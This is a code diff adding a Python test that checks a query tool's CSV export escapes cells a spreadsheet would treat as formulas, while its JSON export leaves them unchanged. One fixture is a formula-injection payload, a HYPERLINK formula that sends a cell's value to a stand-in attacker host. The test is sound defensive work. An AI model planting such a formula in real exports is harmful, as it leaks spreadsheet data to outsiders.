@@ -239,6 +239,22 @@ def test_query_table_shows_control_and_bidi_characters_of_user_text_inert(loaded
     assert run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode().count("\x1b") == 2
 
 
+def test_query_csv_cells_a_spreadsheet_would_take_for_formulas_are_text(loaded):
+    """A comment's text may start like a formula (=HYPERLINK(…) sends the sheet's cells away when clicked): in CSV,
+    which analysts open in a spreadsheet, a text cell starting with = + - @, a tab or a carriage return gets a
+    leading apostrophe, which spreadsheets take as "this is text"; numbers and JSON are as stored."""
+    store, _ = loaded
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "ok =1", ""]
+    params = [arg for i, text in enumerate(texts) for arg in ("-p", f"t{i}={text}")]
+    cypher = f"UNWIND [{', '.join(f'$t{i}' for i in range(len(texts)))}] AS text RETURN text, -3 AS n"
+    out = run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode()
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    shown = [("'" + t if t[:1] in ("=", "+", "-", "@", "\t", "\r") else t) for t in texts]
+    assert rows == [["text", "n"], *([t, "-3"] for t in shown)]
+    rows = json.loads(run("query", cypher, *params, "--format", "json", "--store", store).stdout)
+    assert [row["text"] for row in rows] == texts
+
+
 def test_query_is_read_only_unless_write(loaded):
     store, _ = loaded
     result = run("query", "MATCH (c:Comment) SET c.text = 'x'", "--store", store, ok=False)
